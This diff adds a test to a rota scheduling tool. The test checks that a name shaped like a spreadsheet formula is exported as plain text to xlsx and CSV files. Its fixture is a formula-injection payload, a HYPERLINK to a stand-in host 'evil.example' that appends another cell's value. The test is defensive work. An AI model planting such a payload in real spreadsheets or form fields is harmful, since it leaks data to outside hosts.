@@ -83,3 +83,33 @@ def test_the_summary_sheet_names_its_columns_and_people(tmp_path: Path) -> None:
     assert len(header) == len(SUMMARY_HEADER) + 1 and not set(header) & set(SUMMARY_HEADER)
     first = team.people[0]
     assert [c.value for c in ws[2]][:3] == [first.id, first.name, first.fte]
+
+
+def test_a_name_starting_like_a_formula_is_text_in_every_export(tmp_path: Path) -> None:
+    """A person named =HYPERLINK(…) (stored before names were checked, or from a team file of
+    another tool) was written as a live formula into rota.xlsx and as-is into the payroll and
+    summary CSVs: text now (the workbook's cell type, an apostrophe in the CSVs)."""
+    import csv
+    from dataclasses import replace
+
+    from scheduler.checker import check_rota
+    from scheduler.exports import write_payroll, write_summary
+
+    team = load_team(EXAMPLE)
+    evil = '=HYPERLINK("http://evil.example/?x="&A3,"Click")'
+    team = replace(team, name="=1+1", people=(replace(team.people[0], name=evil), *team.people[1:]))
+    report = check_rota(team, 2027, 3, [], [])
+    path = tmp_path / "rota.xlsx"
+    write_xlsx(team, 2027, 3, [], report, path)
+    book = load_workbook(path)
+    grid, summary = book["2027-03"], book["Summary"]
+    assert (grid["A1"].value, grid["A1"].data_type) == ("=1+1", "s")
+    assert (grid["A3"].value, grid["A3"].data_type) == (evil, "s")
+    assert (summary["B2"].value, summary["B2"].data_type) == (evil, "s")
+    assert not [c for row in grid.iter_rows() for c in row if c.data_type == "f"]
+    write_payroll(report, tmp_path / "payroll.csv")
+    with open(tmp_path / "payroll.csv", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[1][1] == "'" + evil
+    write_summary(report, tmp_path / "summary.csv")
+    assert (tmp_path / "summary.csv").read_text(encoding="utf-8").splitlines()[1].startswith(team.people[0].id)
